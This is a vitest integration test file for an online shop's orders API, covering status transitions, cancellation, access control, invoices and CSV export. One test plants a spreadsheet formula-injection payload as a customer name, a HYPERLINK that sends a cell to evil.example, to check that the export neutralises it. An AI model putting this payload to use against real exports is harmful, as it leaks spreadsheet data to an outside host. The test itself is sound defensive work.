import { parse } from 'csv-parse/sync';
import { PDFParse } from 'pdf-parse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { markOrderPaid, hasDeliveredOrderContaining } from '../../../src/modules/orders/service';
import { createTestApp, type TestApp } from '../../helpers/app';
import { orderEventCount, recordPublished, type PublishedEvent } from '../../helpers/realtime-events';
import { addToCart, checkout, count, ledgerSum, product, shopper, stockOf, type Shopper } from './fixtures';

let t: TestApp;
let published: PublishedEvent[];
let admin: Shopper;
let alice: Shopper;
let bob: Shopper;

beforeAll(async () => {
  t = await createTestApp();
  published = recordPublished(t);
  admin = await shopper(t, 'ADMIN');
  alice = await shopper(t);
  bob = await shopper(t);
});
afterAll(async () => {
  await t.close();
});

async function placeOrder(
  who: Shopper,
  opts: { stock?: number; quantity?: number; price?: number; paymentMethod?: string } = {},
) {
  const item = await product(t, admin, { stock: opts.stock ?? 10, price: opts.price ?? 1999 });
  await addToCart(t, who, item.variantId, opts.quantity ?? 2);
  const res = await checkout(t, who, { paymentMethod: opts.paymentMethod ?? 'COD' });
  if (res.statusCode !== 201) throw new Error(`checkout failed: ${res.statusCode} ${res.body}`);
  return { order: res.json().data, item };
}

const setStatus = (id: string, status: string, who: Shopper = admin, note?: string) =>
  t.app.inject({
    method: 'PATCH',
    url: `/api/v1/admin/orders/${id}/status`,
    headers: who.headers,
    payload: { status, ...(note ? { note } : {}) },
  });
const cancel = (id: string, who: Shopper) =>
  t.app.inject({
    method: 'POST',
    url: `/api/v1/orders/${id}/cancel`,
    headers: who.headers,
    payload: { reason: 'changed my mind' },
  });
const get = (url: string, who: Shopper) =>
  t.app.inject({ method: 'GET', url: `/api/v1${url}`, headers: who.headers });
const updatedEvents = (orderId: string) => orderEventCount(t, published, 'order.updated', orderId);
const mails = (to: string, subject: string) =>
  count(
    t,
    `SELECT 1 FROM pgboss.job WHERE name = 'email.send' AND data->>'to' = $1 AND data->>'subject' LIKE $2`,
    [to, `%${subject}%`],
  );

describe('state machine', () => {
  it('walks a COD order PENDING → PROCESSING → SHIPPED → DELIVERED (paid on delivery) → REFUNDED with history, mails and events', async () => {
    const { order, item } = await placeOrder(alice);
    const processing = await setStatus(order.id, 'PROCESSING', admin, 'packing');
    expect(processing.statusCode).toBe(200);
    expect(processing.json().data).toMatchObject({ status: 'PROCESSING', paymentStatus: 'UNPAID' });
    expect((await setStatus(order.id, 'SHIPPED')).json().data.status).toBe('SHIPPED');
    const delivered = await setStatus(order.id, 'DELIVERED');
    expect(delivered.json().data).toMatchObject({ status: 'DELIVERED', paymentStatus: 'PAID' });
    expect(await hasDeliveredOrderContaining(t.ctx, alice.id, item.productId)).toBe(true);
    expect(await hasDeliveredOrderContaining(t.ctx, bob.id, item.productId)).toBe(false);
    // same state: 200, nothing recorded
    const again = await setStatus(order.id, 'DELIVERED');
    expect(again.statusCode).toBe(200);
    const refunded = await setStatus(order.id, 'REFUNDED', admin, 'damaged');
    expect(refunded.json().data).toMatchObject({ status: 'REFUNDED', paymentStatus: 'REFUNDED' });
    const history = refunded.json().data.statusHistory;
    expect(history.map((h: any) => h.toStatus)).toEqual([
      'PENDING',
      'PROCESSING',
      'SHIPPED',
      'DELIVERED',
      'REFUNDED',
    ]);
    expect(history[1]).toMatchObject({
      fromStatus: 'PENDING',
      actorId: admin.id,
      actorRole: 'ADMIN',
      note: 'packing',
    });
    expect(await updatedEvents(order.id)).toBe(4);
    expect(await mails(alice.email, `${order.orderNumber} has shipped`)).toBe(1);
    expect(await mails(alice.email, `${order.orderNumber} has been delivered`)).toBe(1);
    expect(await mails(alice.email, `${order.orderNumber} has been refunded`)).toBe(1);
    // REFUNDED is final
    const back = await setStatus(order.id, 'PENDING');
    expect(back.statusCode).toBe(409);
    expect(back.json().error.code).toBe('INVALID_STATE_TRANSITION');
  });

  it('refuses skipping states, PENDING → PROCESSING for online payments, and admin PAID for online payments', async () => {
    const { order } = await placeOrder(alice, { paymentMethod: 'STRIPE' });
    for (const status of ['SHIPPED', 'DELIVERED', 'REFUNDED', 'PROCESSING', 'PAID']) {
      const res = await setStatus(order.id, status);
      expect(res.statusCode, status).toBe(409);
      expect(res.json().error.code).toBe('INVALID_STATE_TRANSITION');
    }
    // The payments module confirms it (SYSTEM), then the admin moves it on.
    await t.ctx.database.transaction((tx) => markOrderPaid(t.ctx, tx, order.id, 'stripe cs_test_1'));
    await t.ctx.database.transaction((tx) => markOrderPaid(t.ctx, tx, order.id, 'duplicate webhook')); // no-op
    const paid = await get(`/orders/${order.id}`, alice);
    expect(paid.json().data).toMatchObject({ status: 'PAID', paymentStatus: 'PAID' });
    expect(paid.json().data.statusHistory.at(-1)).toMatchObject({
      toStatus: 'PAID',
      actorRole: 'SYSTEM',
      actorId: null,
    });
    expect((await setStatus(order.id, 'PROCESSING')).statusCode).toBe(200);
    expect(await mails(alice.email, `${order.orderNumber} has been paid`)).toBe(1);
  });

  it('lets an admin mark a COD order PAID by hand; validates the body', async () => {
    const { order } = await placeOrder(alice);
    expect((await setStatus(order.id, 'PAID')).json().data).toMatchObject({
      status: 'PAID',
      paymentStatus: 'PAID',
    });
    expect((await setStatus(order.id, 'LOST')).statusCode).toBe(400);
    const extra = await t.app.inject({
      method: 'PATCH',
      url: `/api/v1/admin/orders/${order.id}/status`,
      headers: admin.headers,
      payload: { status: 'PROCESSING', paymentStatus: 'PAID' },
    });
    expect(extra.statusCode).toBe(400);
    expect((await setStatus('00000000-0000-4000-8000-000000000000', 'PAID')).statusCode).toBe(404);
  });
});

describe('cancel', () => {
  it('customer cancels a PENDING order: stock returns once, even when repeated or concurrent', async () => {
    const { order, item } = await placeOrder(alice, { stock: 6, quantity: 4 });
    expect(await stockOf(t, item.variantId)).toBe(2);
    const results = await Promise.all(Array.from({ length: 5 }, () => cancel(order.id, alice)));
    expect(results.map((r) => r.statusCode)).toEqual([200, 200, 200, 200, 200]);
    expect(results[0]!.json().data.status).toBe('CANCELLED');
    expect(await stockOf(t, item.variantId)).toBe(6);
    expect(await ledgerSum(t, item.variantId)).toBe(6);
    expect(
      await count(t, `SELECT 1 FROM stock_movements WHERE order_id = $1 AND reason = 'CANCEL'`, [order.id]),
    ).toBe(1);
    const again = await cancel(order.id, alice);
    expect(again.statusCode).toBe(200);
    expect(await stockOf(t, item.variantId)).toBe(6);
    const detail = (await get(`/orders/${order.id}`, alice)).json().data;
    expect(detail.statusHistory.filter((h: any) => h.toStatus === 'CANCELLED')).toEqual([
      expect.objectContaining({ actorId: alice.id, actorRole: 'CUSTOMER', note: 'changed my mind' }),
    ]);
    expect(await mails(alice.email, `${order.orderNumber} has been cancelled`)).toBe(1);
    // Cancelled is final.
    expect((await setStatus(order.id, 'PROCESSING')).statusCode).toBe(409);
  });

  it('customer cannot cancel once processing (409); an admin can, and stock returns', async () => {
    const { order, item } = await placeOrder(alice, { stock: 5, quantity: 1 });
    await setStatus(order.id, 'PROCESSING');
    const refused = await cancel(order.id, alice);
    expect(refused.statusCode).toBe(409);
    expect(refused.json().error.code).toBe('INVALID_STATE_TRANSITION');
    expect(await stockOf(t, item.variantId)).toBe(4);
    const byAdmin = await cancel(order.id, admin);
    expect(byAdmin.statusCode).toBe(200);
    expect(byAdmin.json().data.statusHistory.at(-1)).toMatchObject({
      toStatus: 'CANCELLED',
      actorRole: 'ADMIN',
    });
    expect(await stockOf(t, item.variantId)).toBe(5);
    await setStatus(order.id, 'CANCELLED'); // no-op
    expect(await stockOf(t, item.variantId)).toBe(5);
    const { order: shipped } = await placeOrder(alice);
    await setStatus(shipped.id, 'PROCESSING');
    await setStatus(shipped.id, 'SHIPPED');
    expect((await cancel(shipped.id, admin)).statusCode).toBe(409);
  });
});

describe('who sees what', () => {
  it('another customer gets 404 for GET, cancel and invoice; customers get 403 on admin routes; anonymous 401', async () => {
    const { order } = await placeOrder(alice);
    expect((await get(`/orders/${order.id}`, bob)).statusCode).toBe(404);
    expect((await cancel(order.id, bob)).statusCode).toBe(404);
    expect((await get(`/orders/${order.id}/invoice`, bob)).statusCode).toBe(404);
    expect((await get(`/orders/${order.id}`, admin)).statusCode).toBe(200);
    expect(await stockOf(t, order.items[0].variantId)).toBe(8);
    for (const url of ['/admin/orders', '/admin/orders/export', '/admin/coupons'])
      expect((await get(url, alice)).statusCode, url).toBe(403);
    expect((await setStatus(order.id, 'PROCESSING', alice)).statusCode).toBe(403);
    expect((await t.app.inject({ method: 'GET', url: '/api/v1/orders' })).statusCode).toBe(401);
    expect((await t.app.inject({ method: 'GET', url: '/api/v1/admin/orders' })).statusCode).toBe(401);
  });

  it('lists my orders with filters and pagination, and all orders for admins', async () => {
    const carol = await shopper(t);
    const first = (await placeOrder(carol)).order;
    const second = (await placeOrder(carol)).order;
    await cancel(first.id, carol);
    const mine = await get('/orders', carol);
    expect(mine.json().data.map((o: any) => o.id)).toEqual([second.id, first.id]);
    expect(mine.json().meta).toMatchObject({ total: 2, page: 1 });
    expect(mine.json().data[0]).toMatchObject({
      itemCount: 2,
      status: 'PENDING',
      orderNumber: second.orderNumber,
    });
    expect((await get('/orders?status=CANCELLED', carol)).json().data.map((o: any) => o.id)).toEqual([
      first.id,
    ]);
    expect((await get('/orders?limit=1&page=2', carol)).json().data.map((o: any) => o.id)).toEqual([
      first.id,
    ]);
    const future = new Date(Date.now() + 60_000).toISOString();
    expect((await get(`/orders?from=${encodeURIComponent(future)}`, carol)).json().meta.total).toBe(0);
    expect((await get(`/orders?to=${encodeURIComponent(future)}`, carol)).json().meta.total).toBe(2);
    expect((await get('/orders?from=yesterday', carol)).statusCode).toBe(400);

    const all = await get(`/admin/orders?userId=${carol.id}`, admin);
    expect(all.json().meta.total).toBe(2);
    const byNumber = await get(`/admin/orders?searchTerm=${second.orderNumber}`, admin);
    expect(byNumber.json().data.map((o: any) => o.id)).toEqual([second.id]);
    const byEmail = await get(
      `/admin/orders?searchTerm=${encodeURIComponent(carol.email)}&status=PENDING`,
      admin,
    );
    expect(byEmail.json().data.map((o: any) => o.id)).toEqual([second.id]);
  });
});

describe('documents', () => {
  it('renders the invoice PDF with the order number and total', async () => {
    const { order } = await placeOrder(alice, { price: 123456, quantity: 1 });
    const res = await get(`/orders/${order.id}/invoice`, alice);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    const parser = new PDFParse({ data: new Uint8Array(res.rawPayload) });
    const { text } = await parser.getText();
    await parser.destroy();
    expect(text).toContain(order.orderNumber);
    // One money formatter everywhere (issue 15): the invoice writes amounts as the mails do.
    expect(text).toMatch(/Total\s+\$1,234\.56/);
    expect(text).toContain(alice.email);
    expect(text).toContain('1 Market Street');
  });

  it('exports orders as streamed CSV with the list filters', async () => {
    const dave = await shopper(t);
    const a = (await placeOrder(dave)).order;
    const b = (await placeOrder(dave)).order;
    await cancel(b.id, dave);
    const res = await get(`/admin/orders/export?userId=${dave.id}`, admin);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const lines = res.body.trim().split('\n');
    expect(lines[0]).toMatch(/^orderNumber,createdAt,status,paymentStatus/);
    expect(lines).toHaveLength(3);
    expect(lines[1]).toContain(a.orderNumber);
    expect(lines[1]).toContain(`,${a.total},2,`);
    const cancelled = await get(`/admin/orders/export?userId=${dave.id}&status=CANCELLED`, admin);
    expect(
      cancelled.body
        .trim()
        .split('\n')
        .slice(1)
        .map((l) => l.split(',')[0]),
    ).toEqual([b.orderNumber]);
  });

  it('neutralises formula cells in the export (a customer named =HYPERLINK(...) stays text)', async () => {
    const mallory = await shopper(t);
    const formula = '=HYPERLINK("http://evil.example/?x="&A2,"Click")';
    const renamed = await t.app.inject({
      method: 'PATCH',
      url: '/api/v1/users/me',
      headers: mallory.headers,
      payload: { name: formula },
    });
    expect(renamed.statusCode).toBe(200);
    await placeOrder(mallory);
    const res = await get(`/admin/orders/export?userId=${mallory.id}`, admin);
    expect(res.statusCode).toBe(200);
    const [header, row] = parse(res.body) as string[][];
    const cell = row![header!.indexOf('customerName')];
    expect(cell).toBe(`'${formula}`);
    // No cell of the file starts a formula; amounts stay plain numbers.
    for (const value of row!) expect(value).not.toMatch(/^[=+\-@\t\r]/);
    expect(row![header!.indexOf('total')]).toMatch(/^\d+$/);
  });
});
